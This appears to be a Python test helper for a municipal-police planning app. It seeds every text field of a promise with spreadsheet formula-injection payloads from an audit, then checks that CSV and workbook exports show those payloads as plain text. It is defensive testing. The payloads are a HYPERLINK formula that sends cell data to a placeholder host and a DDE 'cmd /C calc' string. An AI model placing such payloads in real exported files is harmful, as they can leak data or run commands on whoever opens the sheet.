"""Texts that a spreadsheet would run as formulas, a promise that holds them, and
checks that a CSV file or a workbook shows them as text."""

import csv
import io
import re
from decimal import Decimal, InvalidOperation

import openpyxl
from hypothesis import strategies as st

from loften.core.spreadsheet import FORMULA_STARTS, starts_formula

# The audit's examples: a link that sends the sheet's data away, a command, a sum.
HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")'
COMMAND = "-2+3+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
EXAMPLES = (HYPERLINK, COMMAND, SUM)

# Any text that starts with a formula character.
formula_texts = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from(FORMULA_STARTS),
    st.text(max_size=30),
)

_NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")


def _is_number(text: str) -> bool:
    """A plain number, with a decimal point or (Swedish) comma."""
    if not _NUMBER.match(text):
        return False
    try:
        Decimal(text.replace(",", "."))
    except InvalidOperation:
        return False
    return True


def csv_formula_cells(content: str, delimiter: str = ",") -> list[str]:
    """The cells of a CSV text that a spreadsheet would run as a formula (a
    negative number is a number, not a formula)."""
    return [
        cell
        for row in csv.reader(io.StringIO(content), delimiter=delimiter)
        for cell in row
        if starts_formula(cell) and not _is_number(cell)
    ]


def xlsx_formula_cells(content: bytes) -> list[str]:
    """The cells of a workbook that Excel would run, or would turn into a formula
    when edited: formulas, and texts starting with a formula character that are
    not marked as text."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str)
                    and starts_formula(cell.value)
                    and not cell.quotePrefix
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


def xlsx_texts(content: bytes) -> set[str]:
    """Every text in a workbook, for checking that the typed text is there."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def promise_with_formula_texts(parties):
    """Give `parties.promise` an activity, commitment, target unit, place,
    follow-up, indicator and signatory whose texts are the audit's formulas,
    publish the plan and the first tertial; returns that tertial."""
    from loften.followups.models import ReportingPeriod
    from loften.followups.services import followup_save, reporting_periods_ensure
    from loften.promises.services import (
        activities as activity_services,
    )
    from loften.promises.services import (
        indicators as indicator_services,
    )
    from loften.promises.services import (
        parts as part_services,
    )

    from . import factories
    from .workflow import publish_period, publish_plan

    promise = parties.promise
    editor = parties.municipality_editor
    commitment = part_services.commitment_create(
        promise=promise, actor=editor, text=SUM
    )
    activity = activity_services.activity_create(
        promise=promise,
        actor=editor,
        text=HYPERLINK,
        commitment=commitment,
        responsible_police=True,
        target_comparator="at_least",
        target_value=4,
        target_unit=SUM,
        target_scope="per_period",
        place=COMMAND,
    )
    indicator = indicator_services.indicator_create(
        promise=promise,
        actor=editor,
        name=HYPERLINK,
        source=COMMAND,
        unit=SUM,
        direction="decrease",
    )
    indicator_services.indicator_value_set(
        indicator=indicator, actor=editor, year=2025, value="-3.5", note=COMMAND
    )
    part_services.signatory_create(
        promise=promise,
        actor=editor,
        name=COMMAND,
        title=SUM,
        organisation=HYPERLINK,
    )
    publish_plan(parties)
    period = next(
        p
        for p in reporting_periods_ensure(promise=promise)
        if p.kind == ReportingPeriod.Kind.TERTIAL
    )
    followup_save(
        activity=activity,
        period=period,
        actor=editor,
        expected_version=None,
        status=factories.status(),
        text=COMMAND,
        quantity=5,
    )
    publish_period(parties, period)
    return period
